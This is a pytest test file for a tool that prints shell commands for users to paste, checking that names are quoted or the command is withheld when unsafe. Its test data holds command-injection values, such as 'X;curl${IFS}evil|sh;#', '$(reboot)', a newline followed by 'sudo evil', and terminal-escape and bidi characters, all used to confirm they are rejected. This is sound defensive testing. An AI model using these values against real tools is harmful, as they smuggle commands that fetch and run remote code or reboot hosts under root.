"""Commands to paste: quoted, or withheld where a name in them is none that anybody would give a thing in earnest."""

from __future__ import annotations

import json
import shlex
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from helpers.examples import ROOT

from envtune import commandline
from envtune.audit import examine
from envtune.audit.remedies import commands_for
from envtune.catalog import load
from envtune.cli.fix import print_for_root
from envtune.commandline import WithheldError, checked, commented, for_this_host, line, quoted, require_word
from envtune.context.open import open_context
from envtune.job.target import TargetOptions
from envtune.messages import Text
from envtune.model import Change, Evidence, Reading
from envtune.report.check_json import remedy_text
from envtune.snapshot.host import SnapshotHost
from envtune.trust.characters import visible_lines

PLAIN = ["/opt/python3.9/bin/python", "inet", "IN_public", "a-b", "x@y%z+1=2:3,4", "wheel_1.2.whl"]
TO_QUOTE = ["/opt/my env/bin/python", "/opt/训练/python"]
WITHHELD = [
    *("", "-rf", "--eval", "X;curl${IFS}evil|sh;#", "$(reboot)", "`reboot`", "a&b", "a>b", "a'b", 'a"b', "a\\b", "a*b"),
    *("~root", "#", "!!", "{a,b}", "a\nb", "a\x1b[2Jb", "a\u202eb", "a\u200bb", "a\udc9bb", "a\tb", "a(b)"),
]


@pytest.mark.parametrize("name", PLAIN)
def test_a_plain_name_is_a_word(name: str) -> None:
    assert quoted(name) == require_word(name) == name


@pytest.mark.parametrize("name", TO_QUOTE)
def test_a_name_with_blanks_is_quoted(name: str) -> None:
    assert shlex.split(f"x {quoted(name)} y") == ["x", name, "y"]
    with pytest.raises(WithheldError):
        require_word(name)


@pytest.mark.parametrize("name", WITHHELD)
def test_any_other_name_is_the_reason_why_there_is_no_command(name: str) -> None:
    with pytest.raises(WithheldError) as caught:
        quoted(name)
    assert name in caught.value.reason.en


def test_what_the_user_named_is_quoted_unless_it_cannot_be_seen() -> None:
    assert shlex.split(line(["envtune", "--script", "it's; a `test`"])) == ["envtune", "--script", "it's; a `test`"]
    with pytest.raises(WithheldError):
        line(["envtune", "--script", "a\x1bb"])
    assert checked("ls -l") == "ls -l" and isinstance(checked("ls\x1b"), Text)


# ---------------------------------------------------------------------- envtune itself

AGAIN = """\
import sys
sys.path.insert(0, {root!r})
from envtune import commandline
commandline.is_program = True
print("started" if sys.argv[1:] == ["again"] else commandline.for_this_host("sudo envtune again"))
"""


@pytest.mark.parametrize("kind", ["script", "one file"])
def test_what_is_pasted_starts_the_same_program_again(kind: str, tmp_path: Path) -> None:
    """From another directory, without the caller's PATH, as sudo does it."""
    program = tmp_path / "my tools" / ("envtune" if kind == "script" else "envtune.pyz")
    program.parent.mkdir()
    code = AGAIN.format(root=str(ROOT))
    if kind == "script":
        program.write_text(f"#!{sys.executable} -I\n{code}")
        program.chmod(0o755)
    else:
        with zipfile.ZipFile(program, "w") as archive:
            archive.writestr("__main__.py", code)
    start = [f"./{program.name}"] if kind == "script" else [sys.executable, program.name]
    told = subprocess.run(start, cwd=program.parent, check=True, capture_output=True, text=True).stdout.strip()
    assert told.startswith("sudo ") and "\n" not in told
    pasted = ["sh", "-c", told[len("sudo ") :]]
    done = subprocess.run(pasted, cwd="/", check=True, capture_output=True, text=True, env={"PATH": "/usr/bin:/bin"})
    assert done.stdout == "started\n"


def test_a_program_that_is_found_by_its_name_is_called_so(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    for folder in ("venv", "system"):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "envtune").write_text("#!/bin/sh\n")
        (tmp_path / folder / "envtune").chmod(0o755)
    monkeypatch.setattr(commandline, "_PATH_OF_SUDO", str(tmp_path / "system"))
    monkeypatch.setenv("PATH", str(tmp_path / "venv"))
    monkeypatch.setenv("SUDO_UID", "1000")
    monkeypatch.setattr("os.geteuid", lambda: 0)

    def told(program: str, *lines: str, **more: bool) -> list[str]:
        monkeypatch.setattr("sys.argv", [str(tmp_path / program / "envtune")])
        return [for_this_host(one, **more) for one in lines]

    assert told("venv", "envtune fix X", "sudo envtune fix X") == ["envtune fix X", "sudo envtune fix X"]
    monkeypatch.setattr(commandline, "is_program", True)
    venv, system = (str(tmp_path / folder / "envtune") for folder in ("venv", "system"))
    assert told("venv", "envtune fix X", "sudo envtune fix X") == ["envtune fix X", f"sudo {venv} fix X"]
    assert told("system", "envtune fix X", "sudo envtune fix X") == [f"{system} fix X", "sudo envtune fix X"]
    assert told("system", "envtune undo R", same_user=True) == ["sudo envtune undo R"]
    assert told("venv", "sudo envtuned", "sudo sysctl -w a=1", "ls envtune") == [
        "sudo envtuned", "sudo sysctl -w a=1", "ls envtune"
    ]  # fmt: skip


@pytest.mark.parametrize("live", [True, False])
def test_a_finding_s_command_names_this_program_on_this_host_only(live: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(commandline, "is_program", True)
    monkeypatch.setattr("sys.argv", ["/opt/venv/bin/python"])
    check = next(one for one in load().checks if one.id == "CPU004")
    host = closed_by("late")
    host.live = live
    (command,) = commands_for(check, open_context(host), [Reading("cpupower", False, Evidence("x"))])
    own = f"{sys.executable} -I -m envtune" if live else "envtune"
    assert command.line == f"sudo {own} fix CPU004 --apply"


# ---------------------------------------------------------------------- recorded hosts


def closed_by(chain: str, table: str = "f") -> SnapshotHost:
    """A host on which a chain of nftables, called by the way in, closes the ports."""
    where = {"family": "inet", "table": table}
    input_ = {**where, "name": "input", "handle": 1, "type": "filter", "hook": "input", "prio": 0, "policy": "accept"}
    rows: list[dict[str, Any]] = [
        {"table": {"family": "inet", "name": table, "handle": 1}},
        {"chain": input_},
        {"chain": {**where, "name": chain, "handle": 2}},
        {"rule": {**where, "chain": "input", "handle": 3, "expr": [{"jump": {"target": chain}}]}},
        {"rule": {**where, "chain": chain, "handle": 4, "expr": [{"drop": None}]}},
    ]
    listing = {
        "argv": ["nft", "-j", "list", "ruleset"],
        "rc": 0,
        "stdout": json.dumps({"nftables": rows}),
        "stderr": "",
    }
    data = {"host": "h", "commands": [listing], "environ": {"MASTER_PORT": "29688"}, "euid": 0}
    return SnapshotHost(
        {"files": {}, "uname": {"nodename": "h", "machine": "aarch64", "release": "5", "sysname": "Linux"}, **data}
    )


@pytest.mark.parametrize(
    "name", ["late", "X;curl${IFS}evil|sh;#", "a b", "-f", "a\n$ sudo evil", "a\x1b[2Jb", "$(reboot)"]
)
@pytest.mark.parametrize("place", ["chain", "table"])
def test_a_chain_of_a_recorded_host_gets_no_word_in(name: str, place: str) -> None:
    host = closed_by(name) if place == "chain" else closed_by("late", name)
    check = next(one for one in load().checks if one.id == "NET004")
    found = examine(check, open_context(host, TargetOptions(peers=("192.0.2.1",))))
    assert [one.outcome.value for one in found] == ["fail"] * len(found), found
    for finding in found:
        command = finding.commands[0].line
        if name == "late":
            assert isinstance(command, str) and command.startswith("sudo nft insert rule inet ")
        else:
            assert isinstance(command, Text) and "write the command by hand" in command.en
        assert "sudo nft" not in (remedy_text(finding, "en") or "") or name == "late"


# ---------------------------------------------------------------------- what root is told


def told_to_root(capsys: pytest.CaptureFixture[str], argv: tuple[str, ...], *given: str) -> str:
    operation = {"op": "run", "argv": list(argv)}
    change = Change("X1", "it", "", "", f"target of {argv[-1]}", "", "", "boot", (operation,), id="C01")
    print_for_root([change], given, "en")
    return capsys.readouterr().err


def test_root_is_told_quoted_commands(capsys: pytest.CaptureFixture[str]) -> None:
    page = told_to_root(capsys, ("nft", "a;b"), "--script", "/srv/it's.sh")
    (again,) = [row for row in page.splitlines() if "--apply" in row]
    assert shlex.split(again)[-3:] == ["--script", "/srv/it's.sh", "--apply"] and "\nnft 'a;b'\n" in page


@pytest.mark.parametrize("name", ["a\x1b[2Jb", "a\n# sudo evil", "a\u202eb"])
def test_root_is_told_no_command_that_is_not_what_is_seen(name: str, capsys: pytest.CaptureFixture[str]) -> None:
    page = told_to_root(capsys, ("nft", name), "--script", name)
    assert visible_lines(page) == page and "write the command by hand" in page and "# not shown: " in page
    assert not [row for row in page.splitlines() if "--apply" in row or row.startswith(("nft", "# sudo"))]


@pytest.mark.parametrize(
    ("line", "en", "zh"),
    [
        ("a -b  # on the physical host", "a -b  # on the physical host", "a -b  # 在物理机上执行"),
        ("a -b  # of a site", "a -b  # of a site", "a -b  # of a site"),
        ("a -b", "a -b", "a -b"),
    ],
)
def test_a_comment_of_the_catalogue_is_in_both_languages(line: str, en: str, zh: str) -> None:
    assert (commented(line).en, commented(line).to("zh")) == (en, zh)
